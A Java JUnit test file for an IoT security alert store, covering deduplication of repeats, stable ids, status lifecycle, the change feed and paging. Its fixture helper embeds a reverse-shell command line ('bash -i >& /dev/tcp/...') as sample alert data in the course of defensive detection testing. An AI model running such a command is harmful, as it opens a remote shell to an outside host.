package dev.vigil.iot.alert;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.vigil.workspace.api.Storage;
import dev.vigil.workspace.api.StorageSettings;
import dev.vigil.workspace.duckdb.DuckDbStorage;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Alerts on the real DuckDB store: dedup of repeats, stable ids, lifecycle, and the feed. */
class TestIotAlerts {
    static final String HUB = "/subscriptions/3f2a9c1e-0000-4000-8000-000000000001/resourceGroups/plant-rg/providers/Microsoft.Devices/IotHubs/plant-hub";
    static final Instant T0 = Instant.parse("2024-05-06T10:00:00Z");
    static final AlertDefinition REVERSE_SHELL = new AlertDefinition("IoT_ReverseShell", "Reverse shells", AlertSeverity.HIGH,
            "A reverse shell was detected.", List.of("Review the command.", "Escalate."));
    static final AlertDefinition LOGIN_FAILED = new AlertDefinition("IoT_LocalLoginFailed", "Failed local login", AlertSeverity.MEDIUM,
            "A failed local login attempt to the device was detected.", List.of("Check local access."));

    @TempDir
    Path data;
    private Storage storage;
    private IotAlerts alerts;
    private final Clock clock = Clock.fixed(Instant.parse("2024-05-06T12:00:00Z"), ZoneOffset.UTC);

    @BeforeEach
    void open() {
        storage = DuckDbStorage.open(StorageSettings.defaults(data), new SimpleMeterRegistry());
        alerts = IotAlerts.open(storage.stateStore(), clock, Duration.ofHours(1));
    }

    @AfterEach
    void close() {
        storage.close();
    }

    static AlertOccurrence occurrence(AlertDefinition definition, String deviceId, Instant at, String trigger) {
        return new AlertOccurrence(definition, HUB, deviceId, at, trigger,
                Map.of("Command Line", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "DeviceId", deviceId),
                List.of(AlertEntity.iotDevice(HUB, deviceId), AlertEntity.process("4242", "bash -i", "/bin/bash")));
    }

    @Test
    void testRepeatsWithinTheWindowUpdateOneAlert() {
        IotAlert first = alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0, "e1"));
        alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0.plus(Duration.ofMinutes(20)), "e2"));
        IotAlert third = alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0.plus(Duration.ofMinutes(59)), "e3"));

        assertThat(third.alertId()).isEqualTo(first.alertId());
        assertThat(third.count()).isEqualTo(3);
        assertThat(third.startTime()).isEqualTo(T0);
        assertThat(third.endTime()).isEqualTo(T0.plus(Duration.ofMinutes(59)));
        assertThat(alerts.list()).hasSize(1);
        assertThat(alerts.feed().read(0, 10)).extracting(AlertVersion::changeKind)
                .containsExactly(AlertChangeKind.CREATED, AlertChangeKind.REPEATED, AlertChangeKind.REPEATED);
    }

    @Test
    void testARepeatAfterTheWindowOrOnAnotherDeviceIsANewAlert() {
        IotAlert first = alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0, "e1"));
        IotAlert later = alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0.plus(Duration.ofMinutes(61)), "e2"));
        IotAlert elsewhere = alerts.raise(occurrence(REVERSE_SHELL, "gateway-02", T0, "e3"));
        IotAlert otherType = alerts.raise(occurrence(LOGIN_FAILED, "gateway-01", T0, "e4"));

        assertThat(List.of(first.alertId(), later.alertId(), elsewhere.alertId(), otherType.alertId())).doesNotHaveDuplicates();
        assertThat(later.count()).isEqualTo(1);
    }

    @Test
    void testTheSameOccurrenceTwiceCountsOnce() {
        alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0, "e1"));
        alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0.plusSeconds(5), "e2"));
        IotAlert replayed = alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0.plusSeconds(5), "e2"));

        assertThat(replayed.count()).isEqualTo(2);
        assertThat(alerts.feed().lastSequence()).isEqualTo(2);
    }

    @Test
    void testIdsAreDerivedFromHubDeviceTypeAndFirstOccurrence() {
        IotAlert created = alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0, "e1"));
        assertThat(created.alertId()).isEqualTo(IotAlerts.alertId(occurrence(REVERSE_SHELL, "gateway-01", T0, "e1")));
        assertThat(created.alertId()).matches("[0-9a-f]{8}-[0-9a-f]{4}-3[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}");
    }

    @Test
    void testAReplayIntoAFreshStoreProducesTheSameIds(@TempDir Path otherData) {
        List<AlertOccurrence> occurrences = List.of(occurrence(REVERSE_SHELL, "gateway-01", T0, "e1"),
                occurrence(REVERSE_SHELL, "gateway-01", T0.plusSeconds(30), "e2"), occurrence(LOGIN_FAILED, "gateway-02", T0, "e3"));
        occurrences.forEach(alerts::raise);
        try (Storage other = DuckDbStorage.open(StorageSettings.defaults(otherData), new SimpleMeterRegistry())) {
            IotAlerts replay = IotAlerts.open(other.stateStore(), clock, Duration.ofHours(1));
            occurrences.forEach(replay::raise);
            assertThat(replay.list()).extracting(IotAlert::alertId).containsExactlyElementsOf(alerts.list().stream().map(IotAlert::alertId).toList());
        }
    }

    @Test
    void testLifecycleTransitionsArePublished() {
        IotAlert created = alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0, "e1"));
        alerts.changeStatus(created.alertId(), AlertStatus.IN_PROGRESS);
        IotAlert resolved = alerts.changeStatus(created.alertId(), AlertStatus.RESOLVED);
        IotAlert reopened = alerts.changeStatus(created.alertId(), AlertStatus.NEW);
        IotAlert dismissed = alerts.changeStatus(created.alertId(), AlertStatus.DISMISSED);

        assertThat(resolved.status()).isEqualTo(AlertStatus.RESOLVED);
        assertThat(reopened.status()).isEqualTo(AlertStatus.NEW);
        assertThat(dismissed.status().sentinelName()).isEqualTo("Dismissed");
        assertThat(alerts.get(created.alertId())).contains(dismissed);
        assertThat(alerts.feed().read(0, 10)).extracting(version -> version.alert().status())
                .containsExactly(AlertStatus.NEW, AlertStatus.IN_PROGRESS, AlertStatus.RESOLVED, AlertStatus.NEW, AlertStatus.DISMISSED);
    }

    @Test
    void testInvalidTransitionsAreRefusedWithAClearError() {
        IotAlert created = alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0, "e1"));
        alerts.changeStatus(created.alertId(), AlertStatus.RESOLVED);

        assertThatThrownBy(() -> alerts.changeStatus(created.alertId(), AlertStatus.DISMISSED))
                .isInstanceOfSatisfying(InvalidAlertStatusTransitionException.class, error -> {
                    assertThat(error.code()).isEqualTo("InvalidAlertStatusTransition");
                    assertThat(error.from()).isEqualTo(AlertStatus.RESOLVED);
                    assertThat(error.to()).isEqualTo(AlertStatus.DISMISSED);
                })
                .hasMessage("IoT alert '" + created.alertId() + "' cannot change from Resolved to Dismissed;"
                        + " from Resolved it may change to New, InProgress");
        assertThatThrownBy(() -> alerts.changeStatus("no-such-alert", AlertStatus.RESOLVED))
                .isInstanceOf(AlertNotFoundException.class).hasMessage("IoT alert 'no-such-alert' does not exist");
        assertThat(alerts.feed().lastSequence()).isEqualTo(2);
    }

    @Test
    void testSettingTheCurrentStatusPublishesNothing() {
        IotAlert created = alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0, "e1"));
        assertThat(alerts.changeStatus(created.alertId(), AlertStatus.NEW)).isEqualTo(created);
        assertThat(alerts.feed().lastSequence()).isEqualTo(1);
    }

    @Test
    void testARepeatOfAClosedAlertOpensANewOne() {
        IotAlert created = alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0, "e1"));
        alerts.changeStatus(created.alertId(), AlertStatus.DISMISSED);
        IotAlert repeat = alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0.plusSeconds(60), "e2"));

        assertThat(repeat.alertId()).isNotEqualTo(created.alertId());
        assertThat(repeat.status()).isEqualTo(AlertStatus.NEW);
        assertThat(alerts.get(created.alertId()).orElseThrow().count()).isEqualTo(1);
    }

    @Test
    void testEntitiesRenderAsSentinelEntityJson() {
        IotAlert created = alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0, "e1"));
        assertThat(alerts.get(created.alertId()).orElseThrow().entitiesJson()).isEqualTo("[{\"$id\":\"1\",\"Type\":\"iotdevice\","
                + "\"DeviceId\":\"gateway-01\",\"IoTHub\":{\"$id\":\"2\",\"Type\":\"azure-resource\",\"ResourceId\":\"" + HUB + "\"}},"
                + "{\"$id\":\"3\",\"Type\":\"process\",\"ProcessId\":\"4242\",\"CommandLine\":\"bash -i\","
                + "\"ImageFile\":{\"$id\":\"4\",\"Type\":\"file\",\"Name\":\"bash\",\"Directory\":\"/bin\"}}]");
    }

    @Test
    void testPagesOfASubscriptionAreNewestFirstAndReadOnlyItsAlerts() {
        String otherHub = "/subscriptions/0000aaaa-0000-4000-8000-000000000002/resourceGroups/rg/providers/Microsoft.Devices/IotHubs/other-hub";
        for (int device = 0; device < 5; device++) {
            alerts.raise(occurrence(REVERSE_SHELL, "gateway-0" + device, T0.plusSeconds(device), "shell-" + device));
        }
        alerts.raise(occurrence(LOGIN_FAILED, "gateway-00", T0.plusSeconds(10), "login"));
        alerts.raise(new AlertOccurrence(REVERSE_SHELL, otherHub, "elsewhere", T0.plusSeconds(20), "other", Map.of(), List.of()));
        String subscription = "3f2a9c1e-0000-4000-8000-000000000001";

        AlertPage first = alerts.page(subscription, alert -> true, 4, java.util.Optional.empty());
        AlertPage second = alerts.page(subscription, alert -> true, 4, first.next());

        assertThat(first.alerts()).extracting(IotAlert::deviceId).containsExactly("gateway-00", "gateway-04", "gateway-03", "gateway-02");
        assertThat(first.alerts().get(0).alertType()).isEqualTo("IoT_LocalLoginFailed");
        assertThat(second.alerts()).extracting(IotAlert::deviceId).containsExactly("gateway-01", "gateway-00");
        assertThat(second.next()).isEmpty();
        assertThat(alerts.page(subscription, alert -> alert.alertType().equals("IoT_LocalLoginFailed"), 10, java.util.Optional.empty()).alerts())
                .singleElement().extracting(IotAlert::deviceId).isEqualTo("gateway-00");
        assertThat(alerts.page("0000aaaa-0000-4000-8000-000000000002", alert -> true, 10, java.util.Optional.empty()).alerts())
                .extracting(IotAlert::deviceId).containsExactly("elsewhere");
        assertThatThrownBy(() -> alerts.page("0000aaaa-0000-4000-8000-000000000002", alert -> true, 10, first.next()))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void testAStatusChangeShowsInTheListWithoutMovingTheAlert() {
        IotAlert first = alerts.raise(occurrence(REVERSE_SHELL, "gateway-01", T0, "e1"));
        alerts.raise(occurrence(LOGIN_FAILED, "gateway-01", T0.plusSeconds(5), "e2"));

        alerts.changeStatus(first.alertId(), AlertStatus.RESOLVED);

        assertThat(alerts.page("3f2a9c1e-0000-4000-8000-000000000001", alert -> true, 10, java.util.Optional.empty()).alerts())
                .extracting(IotAlert::status).containsExactly(AlertStatus.NEW, AlertStatus.RESOLVED);
    }
}
